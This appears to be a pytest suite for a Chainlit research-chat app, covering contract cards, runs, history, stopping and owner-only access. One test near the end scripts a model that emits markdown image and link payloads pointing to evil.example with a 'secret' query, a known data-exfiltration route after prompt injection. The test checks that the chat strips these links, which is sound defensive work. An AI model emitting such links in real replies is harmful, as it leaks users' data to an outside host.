"""The chat as Chainlit draws it: real sessions, real emitter, real history; only the socket is fake."""

import asyncio
import logging

import chainlit as cl
import pytest
from markdown_it import MarkdownIt

from agents.api.tree import live_tree
from agents.chat.renderer import uid
from agents.chat.state import ChatState
from agents.chat.texts import ChatTexts
from agents.contracts.contract import Query, ScopingInput
from agents.contracts.plan import PlanningInput
from agents.core.errors import DossierError
from tests.chat.conftest import HeldModel, Page, make_team, until
from tests.chat.test_conversation import broad, turn
from tests.scripted_model import ScriptedModel
from tests.scripts import Worker

PHRASE_LINE, STARTED_LINE = ChatTexts()("phrase_line"), ChatTexts()("started_line")
QUESTION = "How often was the Orvane ferry closed, and what did it cost?"
PHRASE = "Authorized to execute"


async def test_a_question_becomes_a_contract_and_no_button(chat):
    page = Page()

    await page.say(QUESTION)

    assert page.texts()[0] == "That is small enough as it is."
    assert PHRASE_LINE in page.texts()[1]
    (card,) = page.elements("ContractCard")
    assert card["props"]["phrase"] == PHRASE
    assert card["props"]["state"] == "draft"
    assert [item["name"] for item in card["props"]["forecast"]][:3]
    assert not [event for event, _ in page.sent if event == "action"]


async def test_the_phrase_starts_a_run_and_its_report_comes_to_the_chat(chat):
    page = Page()
    await page.say(QUESTION)

    await page.say(PHRASE)

    (job,) = chat.team.jobs.of("local")
    assert page.elements("ResearchRun")[0]["props"]["job_id"] == job.id
    assert STARTED_LINE in page.texts()
    report = await until(lambda: next((text for text in page.texts() if "## References" in text), ""))
    assert f"/research/jobs/{job.id}/quote/" in report
    assert page.elements("ContractCard")[-1]["props"]["state"] == "bound"


async def test_the_report_is_kept_once_and_in_its_place(chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    (job,) = chat.team.jobs.of("local")
    await until(lambda: any("## References" in text for text in page.texts()))
    await chat.outcomes.close()

    thread = await chat.history.get_thread(page.session.thread_id)

    reports = [step for step in thread["steps"] if step["id"] == uid(job.id, "report")]
    assert len(reports) == 1
    assert reports[0]["parentId"] == uid(job.id, "run")
    assert thread["name"] == QUESTION
    assert thread["userIdentifier"] == "local"


async def test_a_second_tab_sees_the_same_and_cannot_start_it_twice(held_chat):
    first = Page()
    await first.say(QUESTION)
    second = Page(thread_id=first.session.thread_id)
    second.session.has_first_interaction = True
    await first.say(PHRASE)

    await second.say(PHRASE)

    (job,) = held_chat.team.jobs.of("local")
    assert second.elements("ResearchRun")[0]["props"]["job_id"] == job.id
    assert any(text.startswith("Already running since ") for text in second.texts())
    held_chat.model.go.set()
    for page in (first, second):
        await until(lambda page=page: any("## References" in text for text in page.texts()))


async def test_the_phrase_sent_in_two_tabs_at_once_starts_one_run(held_chat):
    first = Page()
    await first.say(QUESTION)
    second = Page(thread_id=first.session.thread_id)
    second.session.has_first_interaction = True

    await asyncio.gather(first.say(PHRASE), second.say(PHRASE))

    assert len(held_chat.team.jobs.of("local")) == 1


async def test_a_chat_opened_anew_goes_on_where_it_stood(held_chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    thread_id = page.session.thread_id
    await until(lambda: live_tree(held_chat.team.jobs.live()[0]).leaves)

    from chainlit.config import config
    from chainlit.context import init_ws_context

    later = Page(thread_id=thread_id)
    later.session.has_first_interaction = True
    init_ws_context(later.session)
    thread = await held_chat.history.get_thread(thread_id)
    await config.code.on_chat_resume(thread)
    await later.say("how is it going")

    await until(lambda: any("parts have delivered" in text for text in later.texts()))
    events = [event for event, _ in later.sent]
    assert "set_commands" in events
    assert "set_modes" in events


async def test_an_outcome_that_was_missed_is_added_when_the_chat_is_opened(chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    (job,) = chat.team.jobs.of("local")
    await until(lambda: any("## References" in text for text in page.texts()))
    await chat.outcomes.close()
    await chat.history.execute_sql("DELETE FROM steps WHERE id = :id", {"id": uid(job.id, "report")})

    from chainlit.context import init_ws_context

    later = Page(thread_id=page.session.thread_id)
    init_ws_context(later.session)
    thread = await chat.history.get_thread(page.session.thread_id)
    await chat.resume(thread)

    await until(lambda: any("## References" in text for text in later.texts()))
    await chat.outcomes.close()
    kept = await chat.history.get_thread(page.session.thread_id)
    assert any("## References" in step["output"] for step in kept["steps"])


async def test_what_a_cut_connection_made_a_page_miss_is_sent_and_stands_in_the_history_where_it_stood(chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    await until(lambda: any("## References" in text for text in page.texts()))
    await chat.outcomes.close()
    before = await chat.history.get_thread(page.session.thread_id)

    later = Page(thread_id=page.session.thread_id)
    await chat.missed(later.session)

    await until(lambda: any("## References" in text for text in later.texts()))
    assert await chat.history.get_thread(page.session.thread_id) == before


async def test_stopping_says_what_is_kept(held_chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)

    await page.say("stop")

    text = await until(lambda: next((text for text in page.texts() if text.startswith("Stopped at 0:0")), ""))
    assert "no report was written" in text


async def test_a_stopped_run_goes_on_from_its_card_for_its_owner_alone(held_chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    (job,) = held_chat.team.jobs.of("local")
    await page.say("stop")
    await until(lambda: any(text.startswith("Stopped at 0:0") for text in page.texts()))

    stranger = Page(user="other")
    stranger.session.has_first_interaction = True
    await stranger.act("say", text="restart", job_id=job.id)
    assert (await held_chat.team.jobs.find(job.id, "local")).status == "cancelled"

    await page.act("say", text="finish", job_id=job.id)

    again = await held_chat.team.jobs.find(job.id, "local")
    assert again.status != "cancelled"  # it may be done by now: nothing had been found
    assert again.run.steering.finishing("job")


async def test_a_picked_question_is_taken_as_if_it_had_been_typed(chat):
    page = Page()
    page.session.has_first_interaction = True

    await page.act("say", text="How many passengers were carried?")

    assert page.texts("user_message") == ["How many passengers were carried?"]
    assert page.elements("ContractCard")


async def test_a_phrase_picked_on_a_card_starts_nothing_without_a_contract(chat):
    page = Page()
    page.session.has_first_interaction = True

    await page.act("say", text=PHRASE)

    assert not chat.team.jobs.of("local")


async def test_an_unexpected_error_is_shown_without_its_inner_text(serve, tmp_path, caplog):
    def broken(request):
        raise RuntimeError("secret inner text")

    team = make_team(tmp_path, ScriptedModel(by_role={"manager": broken}))
    chat = serve(team)
    page = Page()

    with caplog.at_level(logging.ERROR):
        await page.say(QUESTION)

    assert page.texts() == [DossierError.notice]
    assert "secret inner text" not in "".join(page.texts())
    assert "a message could not be answered" in caplog.text
    await chat.history.engine.dispose()


async def test_an_old_draft_is_put_out_of_use(chat):
    page = Page()
    await page.say(QUESTION)

    await page.say("10 minutes")

    first, retired, second = page.elements("ContractCard")
    assert retired["id"] == first["id"]
    assert retired["props"]["state"] == "replaced"
    assert second["props"]["draft"] == 2
    thread = await chat.history.get_thread(page.session.thread_id)
    kept = {element["id"]: element["props"]["state"] for element in thread["elements"]}
    assert kept[first["id"]] == "replaced"


async def test_a_report_comes_as_an_element_before_the_text_that_is_kept_for_copying(chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)

    (element,) = await until(lambda: page.elements("ReportView"))

    assert element["props"]["grade"] == "complete"
    await chat.outcomes.close()
    thread = await chat.history.get_thread(page.session.thread_id)
    (message,) = [step for step in thread["steps"] if step["id"] == element["forId"]]
    assert "## References" in message["output"]
    kinds = [
        data.get("name") if event == "element" else data["id"]
        for event, data in page.sent
        if event in {"element", "new_message"}
    ]
    assert kinds.index("ReportView") < kinds.index(element["forId"])
    assert [one["name"] for one in thread["elements"]].count("ReportView") == 1


async def test_a_talk_that_cannot_be_read_begins_anew(chat):
    page = Page()
    values = {"key": page.session.thread_id, "value": '{"nonsense": 1}'}
    await chat.history.execute_sql("INSERT INTO dossier_kept VALUES ('ChatState', :key, :value)", values)

    await page.say(QUESTION)

    assert page.elements("ContractCard")
    assert (await chat.history.kept(ChatState, page.session.thread_id)).contract is not None


async def test_starters_are_such_as_the_samples_answer_or_drawn_from_ones_own_documents(serve, tmp_path):
    with_sample = serve(make_team(tmp_path / "a", sample=True))
    own = serve(make_team(tmp_path / "b"))
    assert len(await with_sample.starters()) == 3
    assert await own.starters() == []  # nothing is read yet
    await own.open()
    await asyncio.gather(*own._background)
    offered = await own.starters(None, "de-AT")
    total = (await own.team.context().survey("")).total
    assert [one.message for one in offered] == [one.label.partition("\n")[2] for one in offered]
    assert offered[0].label.startswith(f"Aus Ihren {total} Dokumenten")
    assert offered[0].message.startswith("Was ist über ")
    assert own.site.own_documents == total
    for chat in (with_sample, own):
        await chat.history.engine.dispose()


async def test_streamed_words_are_not_doubled_by_the_whole_reply(serve, tmp_path):
    class Speaking(ScriptedModel):
        async def reply(self, request, on_text=None):
            if on_text is not None:
                for piece in ("That is ", "small enough ", "as it is."):
                    await on_text(piece)
            return await super().reply(request)

    worker = Worker()
    model = Speaking(by_role=dict.fromkeys(("manager", "planner", "extractor", "synthesizer"), worker))
    chat = serve(make_team(tmp_path, model))
    page = Page()

    await page.say(QUESTION)

    streamed = [data for event, data in page.sent if event == "stream_start"]
    assert len(streamed) == 1
    assert page.texts().count("That is small enough as it is.") == 1
    await chat.history.engine.dispose()


async def test_nothing_in_the_talk_leads_to_another_site_whatever_a_model_says_or_a_page_is_called(serve, tmp_path):
    trap = "![x](http://evil.example/?q=secret) [log in](http://evil.example/?q=secret) www.evil.example/?q=secret"

    class Obeying(HeldModel):
        async def reply(self, request, on_text=None):
            for piece in ("That is ", *trap.split(" ")) if on_text is not None else ():
                await on_text(piece + " ")
                await asyncio.sleep(0.1)
            return await super().reply(request)

    class Titles(Worker):
        def __call__(self, request):
            made = super().__call__(request)
            if isinstance(request.given, ScopingInput):
                return made.model_copy(update={"reply": f"That is fine. {trap}"})
            if isinstance(request.given, PlanningInput):
                leaves = tuple(one.model_copy(update={"title": f"{one.title} {trap}"[:120]}) for one in made.leaves)
                return made.model_copy(update={"leaves": leaves})
            return made

    model = Obeying(Titles())
    chat = serve(make_team(tmp_path, model))
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    await until(lambda: live_tree(chat.team.jobs.live()[0]).leaves)
    await page.say("How is it going?")
    await page.say("drop part 1")

    said = [*page.texts(), "".join(data["token"] for event, data in page.sent if event == "stream_token")]
    said += [data["output"] for event, data in page.sent if event == "stream_start"]
    assert any("That is fine." in one for one in said) and any("dropped" in one for one in said)
    shown = "".join(map(MarkdownIt("gfm-like", {"linkify": True}).render, said))
    assert "evil.example/" not in shown and "<img" not in shown
    model.go.set()
    await chat.close()
    await chat.history.engine.dispose()


async def test_the_stop_button_breaks_off_an_answer(serve, held):
    held.model.held = ("manager",)
    chat = serve(held.team)
    page = Page()
    from chainlit.server import sio

    page.session.current_task = asyncio.create_task(page.say(QUESTION))
    await asyncio.sleep(0.1)
    await sio.handlers["/"]["stop"](page.session.socket_id)
    await asyncio.sleep(0.1)

    assert any(text.startswith("Stopped answering.") for text in page.texts())
    assert not any("manually" in text for text in page.texts())
    await chat.history.engine.dispose()


@pytest.mark.parametrize(
    ("name", "key", "in_"), [("user", "k" * 20, True), ("user", "wrong", False), ("root", "k" * 20, False)]
)
async def test_off_loopback_the_key_logs_in(serve, tmp_path, name, key, in_):
    chat = serve(make_team(tmp_path, host="0.0.0.0", api_key="k" * 20))
    user = chat.known_user(name, key)
    assert (user == cl.User(identifier="user")) if in_ else user is None
    await chat.history.engine.dispose()


async def edit(page, **payload):
    """Press a button of the contract's card; returns what the card is told."""
    from chainlit.config import config
    from chainlit.context import init_ws_context

    init_ws_context(page.session)
    told = await config.code.action_callbacks["contract_edit"](cl.Action(name="contract_edit", payload=payload))
    await asyncio.sleep(0.05)
    return told


async def test_an_edit_on_the_card_redraws_it_in_every_tab_and_adds_no_message(chat):
    page = Page()
    await page.say(QUESTION)
    other = Page(thread_id=page.session.thread_id)
    card = page.elements("ContractCard")[-1]
    messages = len(page.texts())

    told = await edit(page, op="say", text="12 minutes", hash=card["props"]["hash"])

    assert told == ""
    for tab in (page, other):
        drawn = tab.elements("ContractCard")[-1]
        assert (drawn["id"], drawn["props"]["draft"], drawn["props"]["undo"]) == (card["id"], 2, True)
        assert drawn["props"]["caps"]["minutes"] == 12
    assert len(page.texts()) == messages
    assert drawn["props"]["changed"] == ["12 minutes instead of 5 minutes"]
    assert page.texts()[-1] == PHRASE_LINE
    kept = await chat.history.get_element(page.session.thread_id, card["id"])
    assert kept["props"]["caps"]["minutes"] == 12


@pytest.mark.parametrize(
    ("payload", "told"),
    [
        ({"op": "say", "text": "10 minutes", "hash": "old"}, "no longer stands"),
        ({"op": "explode"}, "could not be read"),
        ({"op": "drop", "place": ["x"]}, "could not be read"),
        ({"op": "say", "text": "x" * 900}, "could not be read"),
        ("nonsense", "could not be read"),
    ],
)
async def test_an_edit_that_means_ill_is_answered_and_changes_nothing(chat, payload, told):
    page = Page()
    await page.say(QUESTION)
    before = await chat.history.kept(ChatState, page.session.thread_id)
    given = cl.Action(name="contract_edit", payload={})
    given.payload = payload
    from chainlit.config import config
    from chainlit.context import init_ws_context

    init_ws_context(page.session)

    assert told in await config.code.action_callbacks["contract_edit"](given)
    assert await chat.history.kept(ChatState, page.session.thread_id) == before


async def test_an_edit_of_somebody_elses_draft_is_refused(chat):
    page = Page()
    await page.say(QUESTION)
    hash_ = page.elements("ContractCard")[-1]["props"]["hash"]

    told = await edit(Page("mallory"), op="say", text="12 minutes", hash=hash_)

    assert "no longer stands" in told
    assert (await chat.history.kept(ChatState, page.session.thread_id)).contract.caps.minutes == 5


async def test_the_phrase_after_an_edit_on_the_card_binds_what_it_shows(chat):
    page = Page()
    await page.say(QUESTION)
    hash_ = page.elements("ContractCard")[-1]["props"]["hash"]
    await edit(page, op="drop", place=[0, 0], hash=hash_)
    shown = page.elements("ContractCard")[-1]["props"]

    await page.say(PHRASE)

    (job,) = chat.team.jobs.of("local")
    assert job.commission.contract.hash == shown["hash"] != hash_
    assert page.elements("ContractCard")[-1]["props"]["state"] == "bound"
    assert "no longer stands" in await edit(page, op="say", text="12 minutes", hash=shown["hash"])


async def test_deleting_a_chat_stops_its_run_and_the_chat_does_not_come_back(held_chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    (job,) = held_chat.team.jobs.of("local")
    assert not job.over

    await held_chat.history.delete_thread(page.session.thread_id)

    await until(lambda: job.status == "cancelled")
    held_chat.model.go.set()
    await held_chat.outcomes.close()
    assert await held_chat.history.get_thread(page.session.thread_id) is None
    assert await held_chat.history.kept(ChatState, page.session.thread_id) == ChatState()


async def test_a_report_outlives_the_chat_it_was_written_in(chat):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    (job,) = chat.team.jobs.of("local")
    await job.wait()
    await chat.outcomes.close()

    await chat.history.delete_thread(page.session.thread_id)

    assert await chat.history.get_thread(page.session.thread_id) is None
    assert (await chat.team.jobs.report(job.id)).grade == job.report.grade


async def test_a_run_that_is_deleted_while_it_is_watched_is_gone_for_good(held_chat, http):
    page = Page()
    await page.say(QUESTION)
    await page.say(PHRASE)
    (job,) = held_chat.team.jobs.of("local")

    gone = (await http.delete(f"/research/jobs?id={job.id}&force=true")).json()

    assert gone["count"] == 1
    await held_chat.outcomes.close()
    assert (await http.get(f"/research/jobs/{job.id}/tree")).status_code == 404
    assert (await http.get("/research/jobs")).json()["jobs"] == []
    assert [text for text in page.texts() if "no report was written" in text]
    await page.say("Is it over?")
    assert "went wrong" not in " ".join(page.texts("assistant_message"))


# ---- names in the history


async def test_a_chat_is_named_by_its_first_question_and_renamed_by_its_owner_only(chat, http):
    from chainlit.auth import create_jwt

    page = Page()
    await page.say(QUESTION + " " + "x" * 100)
    thread = page.session.thread_id
    for _ in range(250):
        if name := await chat.history.thread_name(thread):
            break
        await asyncio.sleep(0.02)
    assert name.startswith(QUESTION)
    assert len(name) == 80

    async def rename(to, user):
        token = create_jwt(cl.User(identifier=user))
        body = {"threadId": thread, "name": to}
        return await http.put("/project/thread", json=body, headers={"authorization": f"Bearer {token}"})

    assert (await rename("Ferries", "mallory")).status_code in {401, 403, 404}
    assert await chat.history.thread_name(thread) == name
    assert (await rename("Ferries\n  in winter " + "y" * 200, "local")).status_code == 200
    assert (await chat.history.thread_name(thread)).startswith("Ferries in winter y")
    assert len(await chat.history.thread_name(thread)) == 80
    assert (await rename("   ", "local")).status_code == 200
    assert (await chat.history.thread_name(thread)).startswith("Ferries")


async def test_a_chat_is_named_by_what_was_agreed_and_not_by_the_broad_question_it_began_with(serve, tmp_path):
    agreed = Query(text="How often was the Orvane ferry closed in 2020?", feasible=True, reason="ok", depth_estimate=1)
    roles = dict.fromkeys(("planner", "extractor", "synthesizer"), Worker())
    manager = [turn(broad(), ready=False), turn(agreed, ready=True)]
    chat = serve(make_team(tmp_path, ScriptedModel(by_role={**roles, "manager": manager})))
    page = Page()
    await page.say("Tell me all about the ferry")
    for _ in range(250):
        if await chat.history.thread_name(page.session.thread_id):
            break
        await asyncio.sleep(0.02)
    await page.say("The closures of 2020 only, please, and nothing else")
    assert page.elements("ContractCard")
    assert await chat.history.thread_name(page.session.thread_id) == agreed.text


async def test_a_chat_is_deleted_by_its_owner_only(chat, http):
    from chainlit.auth import create_jwt

    page = Page()
    await page.say(QUESTION)
    thread = page.session.thread_id
    await until(lambda: page.elements("ContractCard"))

    async def delete(user):
        token = create_jwt(cl.User(identifier=user))
        return await http.request(
            "DELETE", "/project/thread", json={"threadId": thread}, headers={"authorization": f"Bearer {token}"}
        )

    assert (await delete("mallory")).status_code in {401, 403, 404}
    assert await chat.history.get_thread(thread)
    assert (await delete("local")).status_code == 200
    assert await chat.history.get_thread(thread) is None


async def test_the_chat_says_so_too_and_asks_no_model(serve, tmp_path):
    team = make_team(tmp_path, requests_per_minute=10)
    chat = serve(team)
    page = Page()
    await page.say("hello")
    asked = len(team.models["manager"].asked)
    await page.say("and again")
    assert any("Too much at once. Try again in" in text for text in page.texts())
    assert len(team.models["manager"].asked) == asked
    await chat.close()
    await chat.history.engine.dispose()
